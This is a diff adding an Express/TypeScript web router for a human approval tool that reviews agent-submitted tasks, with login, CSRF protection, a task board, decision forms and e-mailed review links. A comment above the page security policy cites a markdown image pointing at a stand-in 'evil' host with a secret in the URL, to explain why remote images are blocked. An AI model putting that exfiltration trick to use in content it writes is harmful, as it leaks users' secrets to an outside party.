@@ -1,0 +1,536 @@
+import {
+  type DecisionAction,
+  type DecisionInput,
+  decisionInputSchema,
+  isFinalStatus,
+  listTasksQuerySchema,
+  RISK_LEVELS,
+  type RiskLevel,
+  type Role,
+  roleSchema,
+} from '@loopgate/shared';
+import express, { type NextFunction, type Request, type Response, type Router } from 'express';
+import type { Logger } from 'pino';
+import { can } from '../domain/access.js';
+import { claimTask } from '../domain/approval-service.js';
+import { AppError } from '../domain/errors.js';
+import { addMember, listMembers, setMemberRole } from '../domain/member-service.js';
+import { decideByReviewLink, openReviewLink } from '../domain/review-link-service.js';
+import {
+  authenticateSession,
+  LoginRateLimiter,
+  logIn,
+  logOut,
+  randomToken,
+  SESSION_TTL_MS,
+  type SessionPrincipal,
+  sameToken,
+} from '../domain/session-service.js';
+import type { JsonValue, TaskRecord } from '../domain/task-record.js';
+import { decideTask, getTask, listTaskEvents, listTasks, type TaskServiceDeps } from '../domain/task-service.js';
+import type { BoardFilter, ReviewLinkAction } from '../domain/web-ports.js';
+import { toAppError } from '../http/problem.js';
+import { BOARD_COUNT_CAP } from '../store/web-repositories.js';
+import { ALLOWED_MOVES, loadBoard } from './board-view.js';
+import { lineDiff, parseEditedPayload, payloadText } from './diff.js';
+import { formatConfidence, formatTime, views, WEB_ROOT } from './render.js';
+import { clearCookie, LOGIN_CSRF_COOKIE, readCookies, SESSION_COOKIE, setCookie } from './session-cookies.js';
+
+export interface WebDeps extends TaskServiceDeps {
+  logger: Logger;
+  publicUrl: string;
+  bodyLimit: string;
+  limiter?: LoginRateLimiter;
+}
+
+/**
+ * Pages get a stricter policy than the API's: no inline styles either, no framing, no remote
+ * images (agent-written markdown like ![](https://evil/?secret) cannot phone home), and fetch/SSE
+ * to this origin only.
+ */
+const PAGE_CSP = [
+  "default-src 'none'",
+  "script-src 'self'",
+  "style-src 'self'",
+  "img-src 'self'",
+  "connect-src 'self'",
+  "form-action 'self'",
+  "base-uri 'none'",
+  "frame-ancestors 'none'",
+].join('; ');
+
+const HEARTBEAT_MS = 15_000;
+
+type Locals = { web?: SessionPrincipal | null };
+
+const DECISION_ACTIONS_BY_LINK: Record<ReviewLinkAction, DecisionAction[]> = {
+  approve: ['approve'],
+  reject: ['reject'],
+  modify: ['approve', 'reject', 'approve_with_modifications'],
+};
+
+function helpers() {
+  return { time: formatTime, confidence: formatConfidence, countCap: BOARD_COUNT_CAP };
+}
+
+function sendPage(res: Response, template: string, data: Record<string, unknown>, status = 200): void {
+  res.status(status);
+  res.setHeader('Content-Security-Policy', PAGE_CSP);
+  res.setHeader('Cache-Control', 'no-store');
+  res.type('html').send(views.render(`./${template}`, { ...helpers(), ...data }));
+}
+
+function userView(web: SessionPrincipal) {
+  return { email: web.user.email, name: web.user.name, role: web.principal.role };
+}
+
+function safeNext(value: unknown): string {
+  return typeof value === 'string' && /^\/(?!\/)[\w\-./?=&%]*$/.test(value) ? value : '/board';
+}
+
+function field(body: unknown, name: string): string | undefined {
+  const value = (body as Record<string, unknown> | undefined)?.[name];
+  return typeof value === 'string' ? value : undefined;
+}
+
+function clientAddress(req: Request): string {
+  return req.ip ?? req.socket.remoteAddress ?? 'unknown';
+}
+
+type FormDecision =
+  | { kind: 'decide'; input: DecisionInput }
+  | { kind: 'preview'; diff: ReturnType<typeof lineDiff>; edited: string; comment: string }
+  | { kind: 'invalid'; error: string; edited?: string };
+
+/** A decision form → the domain's DecisionInput; a modification without `confirm` is only previewed. */
+function readDecisionForm(task: TaskRecord, body: unknown): FormDecision {
+  const action = field(body, 'action');
+  const comment = field(body, 'comment')?.trim() || undefined;
+  if (action === 'approve_with_modifications') {
+    const edited = field(body, 'modifiedPayload') ?? '';
+    const parsed = parseEditedPayload(task.payload, edited);
+    if (!parsed.ok) return { kind: 'invalid', error: parsed.error, edited };
+    if (field(body, 'confirm') !== '1') {
+      const diff = lineDiff(payloadText(task.payload), payloadText(parsed.value));
+      if (!diff.some((line) => line.op !== 'same')) {
+        return { kind: 'invalid', error: 'You have not changed the payload; use Approve instead.', edited };
+      }
+      return { kind: 'preview', diff, edited, comment: comment ?? '' };
+    }
+    return { kind: 'decide', input: decisionInputSchema.parse({ action, comment, modifiedPayload: parsed.value }) };
+  }
+  const result = decisionInputSchema.safeParse({ action, comment });
+  if (!result.success) return { kind: 'invalid', error: 'Choose approve, reject or approve with modifications.' };
+  return { kind: 'decide', input: result.data };
+}
+
+function taskViewData(task: TaskRecord) {
+  return {
+    task,
+    payloadText: payloadText(task.payload),
+    contextText: task.context === null ? '' : payloadText(task.context as JsonValue),
+    payloadKind: typeof task.payload === 'string' ? 'text' : 'json',
+  };
+}
+
+export function webRouter(deps: WebDeps): Router {
+  const router = express.Router();
+  const limiter = deps.limiter ?? new LoginRateLimiter();
+  const secure = deps.publicUrl.startsWith('https:');
+  const form = express.urlencoded({ extended: false, limit: deps.bodyLimit, parameterLimit: 50 });
+
+  router.use('/static', express.static(`${WEB_ROOT}/static`, { index: false, maxAge: '1h' }));
+
+  async function sessionOf(req: Request, res: Response): Promise<SessionPrincipal | null> {
+    const locals = res.locals as Locals;
+    if (locals.web !== undefined) return locals.web;
+    const token = readCookies(req)[SESSION_COOKIE];
+    locals.web = token ? await authenticateSession(deps, token) : null;
+    return locals.web;
+  }
+
+  function checkCsrf(req: Request, web: SessionPrincipal): void {
+    const sent = field(req.body, '_csrf') ?? req.get('x-csrf-token') ?? '';
+    if (!sameToken(sent, web.session.csrfToken)) throw new AppError('csrf_token_invalid');
+  }
+
+  /** A page behind login: renders errors as pages, sends the logged-out to the login form. */
+  function page(handler: (req: Request, res: Response, web: SessionPrincipal) => Promise<void>) {
+    return async (req: Request, res: Response, _next: NextFunction) => {
+      let web: SessionPrincipal | null = null;
+      try {
+        web = await sessionOf(req, res);
+        if (!web) {
+          if (req.method === 'GET' && req.accepts(['html', 'json']) === 'html') {
+            res.redirect(303, `/login?next=${encodeURIComponent(req.originalUrl)}`);
+          } else {
+            throw new AppError('unauthorized', 'Log in first');
+          }
+          return;
+        }
+        if (req.method === 'POST') checkCsrf(req, web);
+        await handler(req, res, web);
+      } catch (error) {
+        renderError(req, res, error, web);
+      }
+    };
+  }
+
+  function renderError(req: Request, res: Response, error: unknown, web: SessionPrincipal | null): void {
+    const appError = toAppError(error);
+    if (appError.code === 'internal_error') (req.log ?? deps.logger).error({ err: error }, 'page failed');
+    if (res.headersSent) {
+      res.end();
+      return;
+    }
+    if (req.accepts(['html', 'json']) === 'json') {
+      res.status(appError.status).json({ code: appError.code, detail: appError.message });
+      return;
+    }
+    sendPage(
+      res,
+      'message',
+      {
+        heading: appError.code === 'review_link_invalid' ? 'This link no longer works' : 'That did not work',
+        text: appError.message,
+        kind: 'error',
+        user: web ? userView(web) : null,
+        csrf: web?.session.csrfToken,
+        link: web ? { href: '/board', label: 'Back to the board' } : null,
+      },
+      appError.status,
+    );
+  }
+
+  router.get('/', (_req, res) => res.redirect(303, '/board'));
+
+  // Login: before a session exists, CSRF is a double-submit token (cookie + hidden field).
+  router.get('/login', (req, res) => {
+    const csrf = randomToken();
+    setCookie(res, LOGIN_CSRF_COOKIE, csrf, { secure, maxAgeMs: 60 * 60 * 1000 });
+    sendPage(res, 'login', { csrf, next: safeNext(req.query.next), email: '', workspace: '' });
+  });
+
+  router.post('/login', form, async (req, res) => {
+    const cookieCsrf = readCookies(req)[LOGIN_CSRF_COOKIE] ?? '';
+    const csrf = randomToken();
+    const again = (error: string, status: number) => {
+      setCookie(res, LOGIN_CSRF_COOKIE, csrf, { secure, maxAgeMs: 60 * 60 * 1000 });
+      sendPage(
+        res,
+        'login',
+        {
+          csrf,
+          error,
+          next: safeNext(field(req.body, 'next')),
+          email: field(req.body, 'email') ?? '',
+          workspace: field(req.body, 'workspace') ?? '',
+        },
+        status,
+      );
+    };
+    if (!cookieCsrf || !sameToken(field(req.body, '_csrf') ?? '', cookieCsrf)) {
+      again('The form expired; please log in again.', 403);
+      return;
+    }
+    try {
+      const login = await logIn(
+        { store: deps.store, clock: deps.clock, limiter },
+        {
+          email: field(req.body, 'email') ?? '',
+          password: field(req.body, 'password') ?? '',
+          workspaceSlug: field(req.body, 'workspace') || undefined,
+          clientAddress: clientAddress(req),
+        },
+      );
+      clearCookie(res, LOGIN_CSRF_COOKIE, secure);
+      setCookie(res, SESSION_COOKIE, login.token, { secure, maxAgeMs: SESSION_TTL_MS });
+      res.redirect(303, safeNext(field(req.body, 'next')));
+    } catch (error) {
+      const appError = toAppError(error);
+      if (appError.code === 'internal_error') (req.log ?? deps.logger).error({ err: error }, 'login failed');
+      again(appError.message, appError.status);
+    }
+  });
+
+  router.post(
+    '/logout',
+    form,
+    page(async (req, res) => {
+      const token = readCookies(req)[SESSION_COOKIE];
+      if (token) await logOut(deps, token);
+      clearCookie(res, SESSION_COOKIE, secure);
+      res.redirect(303, '/login');
+    }),
+  );
+
+  router.get(
+    '/board',
+    page(async (req, res, web) => {
+      const q = req.query as Record<string, unknown>;
+      const str = (name: string, max = 200) =>
+        typeof q[name] === 'string' && q[name] !== '' ? (q[name] as string).slice(0, max) : undefined;
+      const risk = str('risk');
+      const filter: BoardFilter = {
+        queue: str('queue', 64),
+        riskLevel: RISK_LEVELS.includes(risk as RiskLevel) ? (risk as RiskLevel) : undefined,
+        source: str('source', 64),
+        assigneeId: str('assignee', 64),
+        search: str('q', 200),
+      };
+      const common = {
+        user: userView(web),
+        csrf: web.session.csrfToken,
+        filter,
+        now: deps.clock(),
+        canDecide: can(web.principal.role, 'task:decide'),
+        movable: Object.keys(ALLOWED_MOVES),
+      };
+      if (str('view') === 'list') {
+        const query = listTasksQuerySchema.parse({
+          queue: filter.queue,
+          riskLevel: filter.riskLevel,
+          source: filter.source,
+          cursor: str('cursor'),
+          limit: 50,
+        });
+        const { tasks, nextCursor } = await listTasks(deps, web.principal, query);
+        const next = new URLSearchParams({ view: 'list', ...(nextCursor ? { cursor: nextCursor } : {}) });
+        for (const [key, value] of Object.entries({
+          queue: filter.queue,
+          risk: filter.riskLevel,
+          source: filter.source,
+        })) {
+          if (value) next.set(key, value);
+        }
+        const members = await listMembers(deps, web.principal);
+        sendPage(res, 'board', { ...common, view: 'list', tasks, nextCursor, nextHref: `/board?${next}`, members });
+        return;
+      }
+      const columns = await loadBoard(deps, web.principal, filter);
+      if (str('fragment') === '1') {
+        res.setHeader('Cache-Control', 'no-store');
+        res.type('html').send(views.render('./board-columns', { ...helpers(), ...common, columns }));
+        return;
+      }
+      const members = await listMembers(deps, web.principal);
+      sendPage(res, 'board', { ...common, view: 'board', columns, members });
+    }),
+  );
+
+  // The board's live feed: the same task.changed events as GET /api/v1/events, authenticated by session.
+  router.get(
+    '/board/events',
+    page(async (req, res, web) => {
+      res.status(200);
+      res.set({
+        'Content-Type': 'text/event-stream; charset=utf-8',
+        'Cache-Control': 'no-cache, no-transform',
+        Connection: 'keep-alive',
+        'X-Accel-Buffering': 'no',
+      });
+      res.flushHeaders();
+      res.write('retry: 2000\n: connected\n\n');
+      req.socket.setNoDelay(true);
+      const unsubscribe = deps.bus.subscribe((message) => {
+        if (message.workspaceId !== web.principal.workspaceId) return;
+        const data = JSON.stringify({ taskId: message.taskId, status: message.status, version: message.version });
+        res.write(`id: ${message.taskId}:${message.version}\nevent: task.changed\ndata: ${data}\n\n`);
+      });
+      const heartbeat = setInterval(() => res.write(': keep-alive\n\n'), HEARTBEAT_MS);
+      heartbeat.unref();
+      res.on('close', () => {
+        clearInterval(heartbeat);
+        unsubscribe();
+      });
+    }),
+  );
+
+  async function renderTask(
+    res: Response,
+    web: SessionPrincipal,
+    task: TaskRecord,
+    extra: Record<string, unknown> = {},
+    status = 200,
+  ) {
+    const events = await listTaskEvents(deps, web.principal, task.id);
+    const decision = task.decision;
+    const decisionDiff =
+      decision?.action === 'approve_with_modifications' && decision.modifiedPayload !== null
+        ? lineDiff(payloadText(task.payload), payloadText(decision.modifiedPayload))
+        : null;
+    sendPage(
+      res,
+      'task',
+      {
+        ...taskViewData(task),
+        user: userView(web),
+        csrf: web.session.csrfToken,
+        events,
+        decisionDiff,
+        canDecide: can(web.principal.role, 'task:decide') && !isFinalStatus(task.status),
+        allowed: ['approve', 'reject', 'approve_with_modifications'],
+        formAction: `/tasks/${encodeURIComponent(task.id)}/decide`,
+        backHref: `/tasks/${encodeURIComponent(task.id)}`,
+        ...extra,
+      },
+      status,
+    );
+  }
+
+  router.get(
+    '/tasks/:id',
+    page(async (req, res, web) => {
+      await renderTask(res, web, await getTask(deps, web.principal, String(req.params.id)));
+    }),
+  );
+
+  router.post(
+    '/tasks/:id/decide',
+    form,
+    page(async (req, res, web) => {
+      const task = await getTask(deps, web.principal, String(req.params.id));
+      const decision = readDecisionForm(task, req.body);
+      if (decision.kind === 'invalid') {
+        await renderTask(res, web, task, { error: decision.error, edited: decision.edited }, 400);
+        return;
+      }
+      if (decision.kind === 'preview') {
+        await renderTask(res, web, task, { preview: decision });
+        return;
+      }
+      try {
+        await decideTask(deps, web.principal, task.id, decision.input);
+      } catch (error) {
+        const appError = toAppError(error);
+        if (appError.code === 'internal_error') throw error;
+        await renderTask(
+          res,
+          web,
+          await getTask(deps, web.principal, task.id),
+          { error: appError.message },
+          appError.status,
+        );
+        return;
+      }
+      res.redirect(303, `/tasks/${encodeURIComponent(task.id)}`);
+    }),
+  );
+
+  router.post(
+    '/tasks/:id/claim',
+    form,
+    page(async (req, res, web) => {
+      const task = await claimTask(deps, web.principal, String(req.params.id));
+      if (req.accepts(['html', 'json']) === 'json') {
+        res.json({ id: task.id, assignee: task.workflow?.assignee ?? null, claimed: true });
+        return;
+      }
+      res.redirect(303, '/board');
+    }),
+  );
+
+  router.get(
+    '/admin/users',
+    page(async (req, res, web) => {
+      if (!can(web.principal.role, 'workspace:admin')) throw new AppError('forbidden', 'Only admins manage users');
+      const members = await listMembers(deps, web.principal);
+      const notice = typeof req.query.notice === 'string' ? req.query.notice.slice(0, 200) : undefined;
+      sendPage(res, 'admin-users', { user: userView(web), csrf: web.session.csrfToken, members, notice });
+    }),
+  );
+
+  router.post(
+    '/admin/users',
+    form,
+    page(async (req, res, web) => {
+      const role = roleSchema.safeParse(field(req.body, 'role'));
+      try {
+        const email = field(req.body, 'email') ?? '';
+        if (!/^[^\s@]+@[^\s@]+$/.test(email)) throw new AppError('validation_failed', 'Enter a valid e-mail address');
+        await addMember(deps, web.principal, {
+          email,
+          name: field(req.body, 'name')?.trim() || undefined,
+          password: field(req.body, 'password') ?? '',
+          role: role.success ? role.data : 'viewer',
+        });
+        res.redirect(303, `/admin/users?notice=${encodeURIComponent(`Added ${email.trim().toLowerCase()}`)}`);
+      } catch (error) {
+        const appError = toAppError(error);
+        if (appError.code === 'internal_error' || appError.code === 'forbidden') throw error;
+        const members = await listMembers(deps, web.principal);
+        sendPage(
+          res,
+          'admin-users',
+          { user: userView(web), csrf: web.session.csrfToken, members, error: appError.message },
+          appError.status,
+        );
+      }
+    }),
+  );
+
+  router.post(
+    '/admin/users/:id/role',
+    form,
+    page(async (req, res, web) => {
+      const role = roleSchema.safeParse(field(req.body, 'role'));
+      if (!role.success) throw new AppError('validation_failed', 'Choose admin, reviewer or viewer');
+      await setMemberRole(deps, web.principal, String(req.params.id), role.data as Role);
+      res.redirect(303, `/admin/users?notice=${encodeURIComponent('Role updated')}`);
+    }),
+  );
+
+  // E-mail links: no login; the token is the credential. GET shows, POST decides.
+  async function renderReview(res: Response, token: string, extra: Record<string, unknown> = {}, status = 200) {
+    const opened = await openReviewLink(deps, token);
+    const href = `/review/${encodeURIComponent(token)}`;
+    sendPage(
+      res,
+      'review',
+      {
+        ...taskViewData(opened.task),
+        reviewer: opened.link.email,
+        allowed: DECISION_ACTIONS_BY_LINK[opened.link.action],
+        formAction: href,
+        backHref: href,
+        ...extra,
+      },
+      status,
+    );
+  }
+
+  router.get('/review/:token', async (req, res) => {
+    try {
+      // Scanners and previews fetch this; it only reads.
+      res.setHeader('Referrer-Policy', 'no-referrer');
+      await renderReview(res, String(req.params.token));
+    } catch (error) {
+      renderError(req, res, error, null);
+    }
+  });
+
+  router.post('/review/:token', form, async (req, res) => {
+    const token = String(req.params.token);
+    try {
+      const opened = await openReviewLink(deps, token);
+      const decision = readDecisionForm(opened.task, req.body);
+      if (decision.kind === 'invalid') {
+        await renderReview(res, token, { error: decision.error, edited: decision.edited }, 400);
+        return;
+      }
+      if (decision.kind === 'preview') {
+        await renderReview(res, token, { preview: decision });
+        return;
+      }
+      const after = await decideByReviewLink(deps, token, decision.input);
+      const outcome = isFinalStatus(after.status)
+        ? `The task is now ${after.status.replace(/_/g, ' ')}.`
+        : 'Your vote is recorded; the task waits for the other reviewers.';
+      sendPage(res, 'message', { heading: 'Thank you', text: `Your decision was recorded. ${outcome}`, kind: 'ok' });
+    } catch (error) {
+      renderError(req, res, error, null);
+    }
+  });
+
+  return router;
+}
